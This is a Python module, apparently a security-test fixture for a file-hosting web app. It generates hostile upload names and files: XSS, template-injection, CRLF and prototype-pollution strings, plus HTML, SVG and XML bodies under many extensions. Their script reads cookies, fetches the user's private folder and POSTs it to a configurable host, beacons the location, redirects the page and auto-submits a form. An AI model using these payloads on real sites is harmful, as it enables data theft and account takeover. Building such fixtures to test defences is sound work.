"""Names and contents that are scripts to whoever takes them for more than text."""

NAMES = [
    "<script>pwned()<\\script>",
    "<img src=x onerror=pwned()>",
    '"><svg onload=pwned()>',
    "'><svg onload=pwned()>",
    '" onmouseover="pwned()" autofocus onfocus="pwned()" x="',
    "' onfocus='pwned()' autofocus='",
    "javascript:pwned()",
    "data:text&%2Fhtml,<script>pwned()",
    "&lt;img src=x onerror=pwned()&gt;",
    "&#60;img src=x onerror=pwned()&#62;",
    "%3Cimg src=x onerror=pwned()%3E",
    "{{constructor.constructor('pwned()')()}}",
    "{% raw %}${pwned()}",
    "`${pwned()}`",
    "';pwned();'",
    "\\';pwned();\\'",
    "<\u2215title><svg onload=pwned()>",
    "<iframe srcdoc='<script>parent.pwned()'>",
    "<meta http-equiv=refresh content=0;url=javascript:pwned()>",
    "<base href=\\\\attacker.example>",
    "<link rel=stylesheet href=\\\\attacker.example>",
    "<form id=uploads><input name=attributes>",
    "\u2028pwned()\u2029",
    "\u202egnp.<svg onload=pwned()>",
    "<svg><script>pwned()",
    "__proto__",
    "-->]]><svg onload=pwned()>",
    "x.png?<svg onload=pwned()>#<svg onload=pwned()>",
    "\r\nSet-Cookie: a=b\r\n\r\n<svg onload=pwned()>",
]
WAYS_OUT = """
  try { window.pwned && window.pwned("ran") } catch (e) {}
  try { parent.pwned && parent.pwned("ran in a frame") } catch (e) {}
  alert(document.cookie);
  fetch("/vdrive/private/?t=json").then((r) => r.text())
    .then((text) => fetch("SITEstolen", {method: "POST", body: text}));
  new Image().src = "SITEbeacon?" + encodeURIComponent(location);
  top.location = "SITEtaken";
"""
HTML = (
    "<!DOCTYPE html><title>x</title><body onload='pwned()'><script>CODE</script>"
    "<img src='SITEpixel'><link rel=stylesheet href='SITEstyle'><iframe src='SITEframe'>"
    "</iframe><object data='SITEobject'></object><video src='SITEvideo'></video>"
    "<form action='/_/do' method=post><input name=act value=empty></form>"
    "<script>document.forms[0].submit()</script>"
    "<meta http-equiv=refresh content='2;url=SITErefreshed'>"
)
SVG = (
    "<svg xmlns='http://www.w3.org/2000/svg' onload='pwned()'>"
    "<script><![CDATA[CODE]]></script>"
    "<foreignObject><body xmlns='http://www.w3.org/1999/xhtml'><img src='x' "
    "onerror='pwned()'/></body></foreignObject></svg>"
)
XML = (
    "<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'><head><title>x</title>"
    "</head><body onload='pwned()'><script><![CDATA[CODE]]></script></body></html>"
)
CONTENTS = {
    "page.js": "CODE",
    **dict.fromkeys(("page.svg", "page.png"), SVG),
    **dict.fromkeys(("page.xhtml", "page.xml", "page.rdf", "page.xsl"), XML),
    **{
        f"page{end}": HTML
        for end in " .html .htm .shtml .mht .txt .css .json .pdf .md .wav .webm .gif".split(
            " "
        )
    },
}


def hostile_contents(site: str) -> dict[str, bytes]:
    """Return files by their names.

    :param site: the address that scripts in them send to what they find
    """
    texts = {name: text.replace("CODE", WAYS_OUT) for name, text in CONTENTS.items()}
    return {name: text.replace("SITE", site).encode() for name, text in texts.items()}
